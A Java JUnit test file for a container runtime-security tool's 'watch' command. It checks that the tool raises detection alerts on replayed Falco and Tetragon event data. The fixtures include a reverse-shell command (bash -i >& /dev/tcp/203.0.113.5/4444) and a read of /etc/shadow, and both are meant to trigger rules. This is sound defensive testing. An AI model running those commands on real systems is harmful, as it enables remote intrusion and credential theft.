package dev.containersec.cli.watch;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.containersec.api.FileOpenEvent;
import dev.containersec.api.ProcessAncestor;
import dev.containersec.api.ProcessContext;
import dev.containersec.api.ProcessExecEvent;
import dev.containersec.api.RuntimeEvent;
import dev.containersec.cli.Cli;
import dev.containersec.cli.ExitCode;
import dev.containersec.runtime.RuntimeEventJson;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class WatchCommandTest {

    private static final Instant T = Instant.parse("2026-01-02T03:04:05.123456789Z");

    @TempDir
    Path dir;

    private Path recording() throws Exception {
        ProcessContext shell = ProcessContext.builder().pid(4242).ppid(4200).comm("bash").exe("/usr/bin/bash")
                .args("bash", "-i").uid(1000).containerId("0123456789ab")
                .ancestry(List.of(new ProcessAncestor(4200, "nginx", "/usr/sbin/nginx"))).build();
        ProcessContext cat = ProcessContext.builder().pid(77).ppid(1).comm("cat").exe("/usr/bin/cat")
                .args("cat", "/etc/shadow").build();
        List<RuntimeEvent> events = List.of(new ProcessExecEvent(T, shell),
                new FileOpenEvent(T, cat, "/etc/shadow", FileOpenEvent.O_RDONLY, 0),
                new FileOpenEvent(T, cat, "/etc/hostname", FileOpenEvent.O_RDONLY, 0));
        Path file = dir.resolve("events.jsonl");
        Files.write(file, events.stream().map(RuntimeEventJson::write).toList());
        return file;
    }

    @Test
    void replay_withDefaultRules_printsFalcoJsonAlerts() throws Exception {
        Cli.Result r = Cli.run("watch", "--source", "replay:" + recording(), "--format", "json");
        assertThat(r.exitCode()).as(r.toString()).isEqualTo(ExitCode.OK);
        List<String> lines = r.out().lines().toList();
        assertThat(lines).hasSize(2);
        ObjectMapper json = new ObjectMapper();
        JsonNode shell = json.readTree(lines.get(0));
        assertThat(shell.fieldNames()).toIterable().containsExactly("time", "rule", "priority", "output",
                "output_fields", "tags", "source", "hostname");
        assertThat(shell.get("time").asText()).isEqualTo("2026-01-02T03:04:05.123456789Z");
        assertThat(shell.get("rule").asText()).isEqualTo("Terminal shell in container");
        assertThat(shell.get("priority").asText()).isEqualTo("Notice");
        assertThat(shell.get("source").asText()).isEqualTo("syscall");
        assertThat(shell.get("output_fields").get("proc.pid").isNumber()).isTrue();
        assertThat(shell.get("output_fields").get("proc.pid").asLong()).isEqualTo(4242);
        assertThat(shell.get("output_fields").get("container.image.repository").isNull()).isTrue();
        assertThat(shell.get("tags").get(0).asText()).isEqualTo("container");
        JsonNode read = json.readTree(lines.get(1));
        assertThat(read.get("rule").asText()).isEqualTo("Read sensitive file untrusted");
        assertThat(read.get("priority").asText()).isEqualTo("Warning");
        assertThat(read.get("output_fields").get("fd.name").asText()).isEqualTo("/etc/shadow");
        assertThat(r.err()).contains("watching: replay opened").contains("3 events, 2 alerts, 0 dropped");
    }

    @Test
    void customRules_tableFormat_andRecord_roundTrip() throws Exception {
        Path rules = dir.resolve("r.yaml");
        Files.writeString(rules, """
                - rule: Any open
                  desc: every open
                  condition: evt.type = openat
                  output: open %fd.name by %proc.name
                  priority: INFO
                """);
        Path rec = dir.resolve("rec.jsonl");
        Cli.Result r = Cli.run("watch", "--source", "replay:" + recording(), "--rules", rules.toString(),
                "--record", rec.toString(), "--duration", "30s");
        assertThat(r.exitCode()).as(r.toString()).isEqualTo(ExitCode.OK);
        assertThat(r.out().lines().toList()).containsExactly(
                "03:04:05.123456789: Informational open /etc/shadow by cat",
                "03:04:05.123456789: Informational open /etc/hostname by cat");
        assertThat(Files.readAllLines(rec)).isEqualTo(Files.readAllLines(recording()));
    }

    @Test
    void falcoJsonSource_isEvaluated() throws Exception {
        Path falco = dir.resolve("falco.json");
        Files.writeString(falco, "{\"time\":\"2026-01-02T03:04:05Z\",\"rule\":\"x\",\"output_fields\":{"
                + "\"evt.type\":\"openat\",\"fd.name\":\"/etc/passwd\",\"evt.arg.flags\":\"O_WRONLY|O_TRUNC\","
                + "\"proc.name\":\"vi\",\"proc.pid\":9}}\n");
        Cli.Result r = Cli.run("watch", "--source", "falco-json:" + falco, "--format", "json");
        assertThat(r.exitCode()).as(r.toString()).isEqualTo(ExitCode.OK);
        assertThat(r.out()).contains("\"rule\":\"Write below etc\"").contains("\"fd.name\":\"/etc/passwd\"");
    }

    @Test
    void tetragonJsonSource_isEvaluated_withTheContainerItsEventsName() throws Exception {
        String line = "{\"process_exec\":{\"process\":{\"pid\":52699,\"uid\":0,\"binary\":\"/bin/bash\","
                + "\"arguments\":\"-c \\\"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\\\"\",\"pod\":{\"namespace\":"
                + "\"default\",\"name\":\"xwing\",\"container\":{\"id\":\"containerd://551e161c47d8ff0eb665438a7bcd5b4e3ef5a"
                + "297282b40a92b7c77d6bd168eb3\",\"name\":\"spaceship\",\"image\":{\"id\":\"docker.io/tgraf/netperf@"
                + "sha256:8e86f744bfea165fd4ce68caa05abc96500f40130b857773186401926af7e9e6\",\"name\":"
                + "\"docker.io/tgraf/netperf:latest\"}}}},\"parent\":{\"pid\":52600,\"binary\":\"/usr/bin/php-fpm\"}},"
                + "\"node_name\":\"node-1\",\"time\":\"2026-10-06T22:03:57.700326678Z\"}\n"
                + "{\"process_uprobe\":{},\"time\":\"2026-10-06T22:03:58Z\"}\n";
        Path file = dir.resolve("tetragon.jsonl");
        Files.writeString(file, line);
        Cli.Result r = Cli.run("watch", "--source", "tetragon-json:" + file, "--format", "json");
        assertThat(r.exitCode()).as(r.toString()).isEqualTo(ExitCode.OK);
        // rules match as Falco's do by default: the first matching rule of the file
        assertThat(r.out()).contains("\"rule\":\"Terminal shell in container\"")
                .contains("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")
                .contains("\"container.image.repository\":\"docker.io/tgraf/netperf\"")
                .contains("\"container.id\":\"551e161c47d8\"");
        assertThat(r.err()).contains("1 malformed inputs skipped");
    }

    @Test
    void badArguments_areUsageOrInputErrors() throws Exception {
        assertThat(Cli.run("watch", "--source", "nosuch").exitCode()).isEqualTo(ExitCode.USAGE);
        assertThat(Cli.run("watch", "--source", "Bad Spec").exitCode()).isEqualTo(ExitCode.USAGE);
        assertThat(Cli.run("watch", "--source", "replay:" + recording(), "--duration", "soon").exitCode())
                .isEqualTo(ExitCode.USAGE);
        assertThat(Cli.run("watch", "--source", "replay:" + dir.resolve("missing")).exitCode())
                .isEqualTo(ExitCode.BAD_INPUT);
        Cli.Result r = Cli.run("watch", "--source", "replay:" + recording(), "--rules", dir.resolve("no.yaml").toString());
        assertThat(r.exitCode()).isEqualTo(ExitCode.BAD_INPUT);
    }

    @Test
    void procfs_runsForTheGivenDuration() {
        Cli.Result r = Cli.run("watch", "--source", "procfs:interval=50", "--duration", "300ms");
        assertThat(r.exitCode()).as(r.toString()).isEqualTo(ExitCode.OK);
        assertThat(r.err()).contains("watching: procfs opened");
    }
}
